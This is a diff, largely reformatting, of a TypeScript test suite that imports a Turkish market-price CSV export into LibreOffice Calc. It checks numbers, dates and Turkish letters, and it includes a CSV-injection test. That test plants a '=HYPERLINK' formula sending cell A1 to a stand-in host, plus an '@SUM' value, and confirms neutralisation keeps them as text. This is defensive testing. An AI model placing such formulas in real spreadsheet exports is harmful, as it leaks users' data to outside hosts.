@@ -58,9 +58,11 @@ function mismatches(sheet: SheetCell[][], file: Export, api: string[][], columns
       else if (r > 0 && c === column('Tarih')) want = { type: 'date', value: text };
       else want = text === '' ? null : { type: 'string', value: text };
       const got = sheet[r]?.[at] ?? null;
-      if (JSON.stringify(got) !== JSON.stringify(want)) found.push(`row ${r} ${EXPORT_COLUMNS[c]}: ${JSON.stringify(got)}, want ${JSON.stringify(want)}`);
+      if (JSON.stringify(got) !== JSON.stringify(want))
+        found.push(`row ${r} ${EXPORT_COLUMNS[c]}: ${JSON.stringify(got)}, want ${JSON.stringify(want)}`);
     });
-    if ((sheet[r]?.length ?? 0) > columns.length) found.push(`row ${r}: ${sheet[r]!.length} cells, want ${columns.length}`);
+    if ((sheet[r]?.length ?? 0) > columns.length)
+      found.push(`row ${r}: ${sheet[r]!.length} cells, want ${columns.length}`);
   });
   if (sheet.length !== file.rows.length) found.push(`${sheet.length} rows, want ${file.rows.length}`);
   return found;
@@ -85,12 +87,27 @@ describe.skipIf(!soffice)('the CSV export in LibreOffice Calc', () => {
 
   /** The first row of the small query, its names hostile, once neutralised by the route's code and once not. */
   function hostileFiles(): string[] {
-    const row = { ...pricesJson.items[0]!, productName: '=HYPERLINK("http://example.invalid/?"&A1;"Domates")', marketName: '@SUM(1+1)' };
-    const cells = exportCells(row, { words: true, origin: 'http://localhost', applied: 'ürün=domates', exportedAt: '2026-11-21T03:00:00.000Z' });
+    const row = {
+      ...pricesJson.items[0]!,
+      productName: '=HYPERLINK("http://example.invalid/?"&A1;"Domates")',
+      marketName: '@SUM(1+1)',
+    };
+    const cells = exportCells(row, {
+      words: true,
+      origin: 'http://localhost',
+      applied: 'ürün=domates',
+      exportedAt: '2026-11-21T03:00:00.000Z',
+    });
     const safe = join(dir, 'hostile-neutralised.csv');
     const raw = join(dir, 'hostile-raw.csv');
     writeFileSync(safe, BOM + csvLine([...EXPORT_COLUMNS], CSV_TR) + csvLine(cells, CSV_TR));
-    writeFileSync(raw, BOM + csvLine([...EXPORT_COLUMNS], CSV_TR) + cells.map((c) => csvField(String(c ?? ''), CSV_TR)).join(';') + '\r\n');
+    writeFileSync(
+      raw,
+      BOM +
+        csvLine([...EXPORT_COLUMNS], CSV_TR) +
+        cells.map((c) => csvField(String(c ?? ''), CSV_TR)).join(';') +
+        '\r\n',
+    );
     return [safe, raw];
   }
 
@@ -109,32 +126,66 @@ describe.skipIf(!soffice)('the CSV export in LibreOffice Calc', () => {
     // One soffice per import setting, side by side: each start costs 5–20 seconds. Every cell of the
     // Turkish files; the default files' numbers and days (their text is the Turkish files' text).
     const [tr, plain, control] = await Promise.all([
-      convertToFods(soffice!, [files['large-tr']!.path, files['small-tr']!.path, safe!, raw!], { separator: ';', language: LANGUAGE.turkish }, dirOf('tr')),
-      convertToFods(soffice!, [files['large-default']!.path, files['small-default']!.path], { separator: ',', language: LANGUAGE.englishUs, only: only(NUMBERS_AND_DAYS) }, dirOf('default')),
-      convertToFods(soffice!, [files['large-default']!.path], { separator: ',', language: LANGUAGE.turkish, only: only([column('Ort Fiyat')]) }, dirOf('control')),
+      convertToFods(
+        soffice!,
+        [files['large-tr']!.path, files['small-tr']!.path, safe!, raw!],
+        { separator: ';', language: LANGUAGE.turkish },
+        dirOf('tr'),
+      ),
+      convertToFods(
+        soffice!,
+        [files['large-default']!.path, files['small-default']!.path],
+        { separator: ',', language: LANGUAGE.englishUs, only: only(NUMBERS_AND_DAYS) },
+        dirOf('default'),
+      ),
+      convertToFods(
+        soffice!,
+        [files['large-default']!.path],
+        { separator: ',', language: LANGUAGE.turkish, only: only([column('Ort Fiyat')]) },
+        dirOf('control'),
+      ),
     ]);
-    Object.assign(sheets, { 'large-tr': tr[0], 'small-tr': tr[1], 'hostile-neutralised': tr[2], 'hostile-raw': tr[3], 'large-default': plain[0], 'small-default': plain[1], control: control[0] });
+    Object.assign(sheets, {
+      'large-tr': tr[0],
+      'small-tr': tr[1],
+      'hostile-neutralised': tr[2],
+      'hostile-raw': tr[3],
+      'large-default': plain[0],
+      'small-default': plain[1],
+      control: control[0],
+    });
   }, 300_000);
 
   afterAll(() => dir && rmSync(dir, { recursive: true, force: true }));
 
-  it.each(['large', 'small'])('%s query: the Turkish file in a Turkish import holds the API\'s numbers, dates and every name letter for letter', (size) => {
-    const api = files[`${size}-default`]!.rows;
-    if (size === 'large') expect(api.length - 1).toBe(largeTotal);
-    const file = files[`${size}-tr`]!;
-    expect(file.rows[0]).toEqual([...EXPORT_COLUMNS]);
-    expect(file.rows.slice(1).filter((r) => TURKISH_LETTERS.test(r[column('Hal')]! + r[column('Şehir')]! + r[column('Ürün')]!)).length).toBeGreaterThan(0);
-    const found = mismatches(readFods(sheets[`${size}-tr`]!), file, api);
-    expect(found.slice(0, 5), `${file.path}: ${found.length} cells differ`).toEqual([]);
-  }, 120_000);
+  it.each(['large', 'small'])(
+    "%s query: the Turkish file in a Turkish import holds the API's numbers, dates and every name letter for letter",
+    (size) => {
+      const api = files[`${size}-default`]!.rows;
+      if (size === 'large') expect(api.length - 1).toBe(largeTotal);
+      const file = files[`${size}-tr`]!;
+      expect(file.rows[0]).toEqual([...EXPORT_COLUMNS]);
+      expect(
+        file.rows
+          .slice(1)
+          .filter((r) => TURKISH_LETTERS.test(r[column('Hal')]! + r[column('Şehir')]! + r[column('Ürün')]!)).length,
+      ).toBeGreaterThan(0);
+      const found = mismatches(readFods(sheets[`${size}-tr`]!), file, api);
+      expect(found.slice(0, 5), `${file.path}: ${found.length} cells differ`).toEqual([]);
+    },
+    120_000,
+  );
 
-  it.each(['large', 'small'])('%s query: the default file imported as it says (English (USA)) holds the API\'s numbers and dates', (size) => {
-    const file = files[`${size}-default`]!;
-    const found = mismatches(readFods(sheets[`${size}-default`]!), file, file.rows, NUMBERS_AND_DAYS);
-    expect(found.slice(0, 5), `${file.path}: ${found.length} cells differ`).toEqual([]);
-  });
+  it.each(['large', 'small'])(
+    "%s query: the default file imported as it says (English (USA)) holds the API's numbers and dates",
+    (size) => {
+      const file = files[`${size}-default`]!;
+      const found = mismatches(readFods(sheets[`${size}-default`]!), file, file.rows, NUMBERS_AND_DAYS);
+      expect(found.slice(0, 5), `${file.path}: ${found.length} cells differ`).toEqual([]);
+    },
+  );
 
-  it('the small query\'s prices in the spreadsheet are those of /prices, row by row', () => {
+  it("the small query's prices in the spreadsheet are those of /prices, row by row", () => {
     const byId = new Map(pricesJson.items.map((i) => [i.id, i]));
     const sheet = readFods(sheets['small-tr']!);
     const rows = files['small-tr']!.rows;
@@ -150,7 +201,9 @@ describe.skipIf(!soffice)('the CSV export in LibreOffice Calc', () => {
     const api = files['large-default']!.rows.slice(1).map((r) => r[column('Ort Fiyat')]!);
     const sheet = readFods(sheets.control!).slice(1);
     const wrong = api.filter((text, i) => sheet[i]?.[0]?.type !== 'float' || sheet[i]![0]!.value !== Number(text));
-    console.log(`control: ${wrong.length} of ${api.length} Ort Fiyat values of ${QUERIES.large} read wrongly in a Turkish import of the default file`);
+    console.log(
+      `control: ${wrong.length} of ${api.length} Ort Fiyat values of ${QUERIES.large} read wrongly in a Turkish import of the default file`,
+    );
     expect(wrong.length).toBeGreaterThan(0);
     expect(wrong).toEqual(api.filter((text) => !Number.isInteger(Number(text))));
   });
@@ -158,7 +211,10 @@ describe.skipIf(!soffice)('the CSV export in LibreOffice Calc', () => {
   it('a product name that starts with = stays text; the same line without neutralisation runs as a formula', () => {
     const safe = readFods(sheets['hostile-neutralised']!)[1]!;
     expect(safe.filter((c) => c?.formula)).toEqual([]);
-    expect(safe[column('Ürün')]).toEqual({ type: 'string', value: `'=HYPERLINK("http://example.invalid/?"&A1;"Domates")` });
+    expect(safe[column('Ürün')]).toEqual({
+      type: 'string',
+      value: `'=HYPERLINK("http://example.invalid/?"&A1;"Domates")`,
+    });
     expect(safe[column('Hal')]).toEqual({ type: 'string', value: `'@SUM(1+1)` });
     const raw = readFods(sheets['hostile-raw']!)[1]!;
     expect(raw[column('Ürün')]?.formula).toMatch(/HYPERLINK/);
